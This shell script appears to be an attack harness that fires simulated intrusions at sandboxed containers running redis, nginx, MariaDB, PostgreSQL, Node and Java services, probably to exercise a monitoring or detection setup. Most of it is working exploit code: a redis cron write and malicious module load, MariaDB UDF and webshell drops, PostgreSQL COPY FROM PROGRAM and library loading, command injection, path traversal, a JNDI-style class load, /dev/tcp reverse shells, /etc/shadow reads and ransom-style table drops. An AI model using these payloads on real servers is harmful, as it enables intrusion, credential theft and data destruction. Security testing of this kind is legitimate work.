# The attacks of soak.sh: what strangers do to such servers. To be sourced.

box_path() { echo "$BOX_DIR/$(box_name "$1")/rootfs"; }

attack() { # NAME CONTAINER FUNCTION; its line of the table says whether it did what it was to do
    local from to result=done
    [ -e "$BOX_DIR/$2.nspid" ] || return
    from=$(now)
    "$3" "$2" >>"$OUT/attacks.log" 2>&1 || result='did not succeed'
    to=$(now)
    printf '%s\t%s\t%s\t%s\t%s\n' "$1" "$(box_name "$2")" "$from" "$to" "$result" >>"$OUT/attacks.tsv"
    say "attack: $1 on $2: $result"
    sleep 5
}

redis_say() { in_net "$1" redis-cli "${@:2}"; }

redis_cron() {
    redis_say "$1" CONFIG SET dir /var/spool/cron/crontabs
    redis_say "$1" CONFIG SET dbfilename root
    redis_say "$1" SET job $'\n\n* * * * * /bin/sh -c "id >/tmp/owned"\n\n'
    redis_say "$1" SAVE
    grep -q owned "$(box_path "$1")/var/spool/cron/crontabs/root"
}

redis_module() {
    cat >"$BOX_DIR/module.c" <<'EOF'
#include <stdlib.h>
int RedisModule_OnLoad(void *c, void **v, int n) { return (c || v || n) && system("id >/tmp/.m; cat /etc/shadow >>/tmp/.m; uname -a >>/tmp/.m"); }
EOF
    gcc -shared -fPIC -o "$(box_path "$1")/tmp/module.so" "$BOX_DIR/module.c"
    redis_say "$1" MODULE LOAD /tmp/module.so
    grep -q uid= "$(box_path "$1")/tmp/.m"
}

redis_eval() {
    redis_say "$1" EVAL 'local t = 0 for i = 1, 6e8 do t = t + i end return t' 0
    redis_say "$1" EVAL "for i = 1, 300000 do redis.call('SET', 'k' .. i, string.rep('x', 100)) end" 0
}

shell_session() {
    box_exec "$1" bash -c 'id; uname -a; ls -la / /root; cat /etc/passwd; cat /etc/shadow; env; ls /proc
        cp /usr/bin/id /tmp/.x; chmod 700 /tmp/.x; /tmp/.x'
    [ -e "$(box_path "$1")/tmp/.x" ]
}

deface() {
    box_exec "$1" dash -c 'cat /etc/nginx/nginx.conf; find /var/www -name "*.html"; echo hacked >/var/www/index.html'
    grep -q hacked "$(box_path "$1")/var/www/index.html"
}

with_listener() { # CONTAINER: a shell calls it back by the command CALL_HOME
    local listener status
    rm -f "$BOX_DIR/listens"
    nsenter -t "$(cat "$BOX_DIR/$1.nspid")" -n python3 - "$BOX_DIR/listens" <<'EOF' &
import pathlib, socket, sys, time
server = socket.create_server(("127.0.0.1", 4444))
pathlib.Path(sys.argv[1]).touch()
server.settimeout(10)
peer = server.accept()[0]
peer.settimeout(2)
for command in ("id", "cat /etc/shadow", "ls -la /var/www", "exit"):
    peer.sendall(command.encode() + b"\n")
    time.sleep(.3)
answer = b""
while more := peer.recv(65536):
    answer += more
raise SystemExit(b"uid=" not in answer)
EOF
    listener=$!
    for _ in $(seq 100); do [ ! -e "$BOX_DIR/listens" ] || break; sleep 0.1; done
    "${CALL_HOME[@]}"
    wait "$listener"
    status=$?
    return "$status"
}

call_home() {
    CALL_HOME=(box_exec "$1" bash -c 'bash -i >&/dev/tcp/127.0.0.1/4444 0>&1')
    with_listener "$1"
}

miner() {
    box_exec "$1" bash -c 'cp /usr/bin/sha256sum /tmp/kdevtmpfsi; /tmp/kdevtmpfsi /dev/zero & sleep 10; kill $!'
}

alias_of_etc() { # no new program: the server itself gives the files away
    sed -i 's|location = /gone|location /x/ { alias /etc/; } location = /gone|' "$(box_path "$1")/etc/nginx/nginx.conf"
    runc kill "$(box_name "$1")" HUP
    sleep 1
    in_net "$1" ab -n 1 http://127.0.0.1/x/shadow
    nsenter -t "$(cat "$BOX_DIR/$1.nspid")" -n curl -s http://127.0.0.1/x/passwd | grep root:
}

sql_files() {
    mariadb_sql "$1" "CREATE TABLE loot (t TEXT); INSERT INTO loot SELECT LOAD_FILE('/etc/passwd');
        INSERT INTO loot SELECT LOAD_FILE('/etc/mysql/debian.cnf'); SELECT '<?php system(1); ?>' INTO OUTFILE '/tmp/shell.php'"
    [ -e "$(box_path "$1")/tmp/shell.php" ]
}

sql_function() {
    cat >"$BOX_DIR/udf.c" <<'EOF'
#include <stdlib.h>
struct arguments { unsigned n; int *types; char **args; };
int run_init(void *i, struct arguments *a, char *m) { (void)i, (void)m; return a->n != 1; }
long long run(void *i, struct arguments *a, char *n, char *e) { (void)i, (void)n, (void)e; return system(a->args[0]); }
EOF
    gcc -shared -fPIC -o "$BOX_DIR/udf.so" "$BOX_DIR/udf.c"
    mariadb_sql "$1" "SELECT unhex('$(od -An -v -tx1 "$BOX_DIR/udf.so" | tr -d ' \n')') INTO DUMPFILE '/usr/lib/mysql/plugin/u.so';
        CREATE FUNCTION run RETURNS INTEGER SONAME 'u.so'; SELECT run('id >/tmp/.u; cat /etc/passwd >>/tmp/.u');"
    grep -q uid= "$(box_path "$1")/tmp/.u"
}

sql_guessing() {
    local i
    for i in $(seq 300); do
        in_net "$1" mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -u root -p"guess$i" -e 'SELECT 1'
    done
    return 0
}

sql_ransom() {
    mariadb_sql "$1" "SELECT * FROM mysql.global_priv; SELECT * FROM information_schema.columns; SELECT * FROM item;
        DROP DATABASE shop; CREATE DATABASE readme; CREATE TABLE readme.note (t TEXT); INSERT INTO readme.note VALUES ('pay')"
    [ -d "$(box_path "$1")/var/lib/mysql/readme" ]
}

postgres_program() {
    postgres_client "$1" psql -c "CREATE TABLE loot (t TEXT)" -c "COPY loot FROM PROGRAM
        'id >/tmp/.p; uname -a >>/tmp/.p; cat /etc/passwd >>/tmp/.p; cat /tmp/.p'"
    grep -q uid= "$(box_path "$1")/tmp/.p"
}

postgres_read() {
    local what
    for what in "pg_ls_dir('/etc')" "pg_read_file('/etc/shadow')" "pg_read_file('/proc/self/environ')" "pg_read_file('/etc/passwd')"; do
        postgres_client "$1" psql -v ON_ERROR_STOP=1 -c "SELECT $what"
    done
}

postgres_library() {
    cat >"$BOX_DIR/lo.c" <<'EOF'
#include <stdlib.h>
__attribute__((constructor)) static void run(void) { if (system("id >/tmp/.o; cat /etc/passwd >>/tmp/.o")) return; }
EOF
    gcc -shared -fPIC -o "$BOX_DIR/lo.so" "$BOX_DIR/lo.c"
    postgres_client "$1" psql -c "SELECT lo_from_bytea(4242, decode('$(od -An -v -tx1 "$BOX_DIR/lo.so" | tr -d ' \n')', 'hex'))" \
        -c "SELECT lo_export(4242, '/tmp/lo.so')" -c "LOAD '/tmp/lo.so'"
    grep -q uid= "$(box_path "$1")/tmp/.o"
}

postgres_ransom() {
    postgres_client "$1" psql -c 'SELECT * FROM pg_shadow' -c 'SELECT * FROM item' -c 'DROP TABLE item, pgbench_accounts' \
        -c 'CREATE DATABASE readme' && postgres_client "$1" psql -d readme -c "CREATE TABLE note AS SELECT 'pay'"
}

node_command() {
    web_ask "$1" -G http://127.0.0.1:3000/checksum --data-urlencode 'name=x; id >/tmp/.n; uname -a >>/tmp/.n; cat /etc/passwd >>/tmp/.n'
    grep -q uid= "$(box_path "$1")/tmp/.n"
}

node_traversal() {
    web_ask "$1" 'http://127.0.0.1:3000/files?name=../../etc/passwd'
    web_ask "$1" -o "$BOX_DIR/loot" 'http://127.0.0.1:3000/files?name=../../etc/shadow'
    grep -q root: "$BOX_DIR/loot"
}

node_eval() { # no new program
    web_ask "$1" -G http://127.0.0.1:3000/price --data-urlencode "of=fs.readFileSync('/proc/self/environ') +
        fs.readdirSync('/root') + fs.writeFileSync('/app/public/shell.js', 'eval(process.env.X)')"
    [ -e "$(box_path "$1")/app/public/shell.js" ]
}

node_call_home() {
    CALL_HOME=(web_ask "$1" -m 10 -G http://127.0.0.1:3000/checksum
        --data-urlencode "name=x; bash -c 'bash -i >&/dev/tcp/127.0.0.1/4444 0>&1'")
    with_listener "$1"
}

java_load() { # CONTAINER CLASS FILE: FILE shows that it ran
    local listener
    nsenter -t "$(cat "$BOX_DIR/$1.nspid")" -n python3 -m http.server -d "$BOX_DIR/hostile" -b 127.0.0.1 8000 &
    listener=$!
    for _ in $(seq 100); do web_ask "$1" http://127.0.0.1:8000/ && break; sleep 0.1; done
    web_ask "$1" -A "\${load:http://127.0.0.1:8000/ $2}" http://127.0.0.1:8080/
    for _ in $(seq 50); do [ ! -e "$(box_path "$1")$3" ] || break; sleep 0.1; done
    kill "$listener"
    wait "$listener"
    [ -e "$(box_path "$1")$3" ]
}

java_execute() { java_load "$1" Execute /tmp/.j; }
java_drop() { java_load "$1" Drop /app/public/shell.jsp; }
java_scan() { java_load "$1" Scan /tmp/.scan; }

run_attacks() {
    attack 'redis: cron file by CONFIG SET and SAVE' redis-2 redis_cron
    attack 'redis: hostile module loaded' redis-3 redis_module
    attack 'redis: EVAL that blocks and floods' redis-4 redis_eval
    attack 'redis: shell session, shadow, program dropped' redis-5 shell_session
    attack 'nginx: page defaced from a session' nginx-2 deface
    attack 'nginx: shell calls home' nginx-3 call_home
    attack 'nginx: miner dropped and run' nginx-4 miner
    attack 'nginx: /etc served by a changed configuration' nginx-5 alias_of_etc
    attack 'mariadb: LOAD_FILE and INTO OUTFILE' mariadb-2 sql_files
    attack 'mariadb: UDF library written, loaded, runs id' mariadb-3 sql_function
    attack 'mariadb: 300 passwords guessed' mariadb-4 sql_guessing
    attack 'mariadb: all read, database dropped' mariadb-5 sql_ransom
    attack 'postgres: COPY FROM PROGRAM' postgres-2 postgres_program
    attack 'postgres: pg_read_file outside of its data' postgres-3 postgres_read
    attack 'postgres: library by lo_export, loaded, runs id' postgres-4 postgres_library
    attack 'postgres: shell session, shadow, program dropped' postgres-5 shell_session
    attack 'postgres: all read, tables dropped' postgres-1 postgres_ransom
    attack 'node: command injected' node-2 node_command
    attack 'node: path traversal to shadow' node-3 node_traversal
    attack 'node: injected shell calls home' node-4 node_call_home
    attack 'node: shell session, shadow, program dropped' node-5 shell_session
    attack 'node: injected script reads, drops a file' node-1 node_eval
    attack 'java: class loaded runs sh' java-2 java_execute
    attack 'java: class loaded reads shadow, drops a page' java-3 java_drop
    attack 'java: class loaded scans ports' java-4 java_scan
    attack 'java: shell session, shadow, program dropped' java-5 shell_session
}
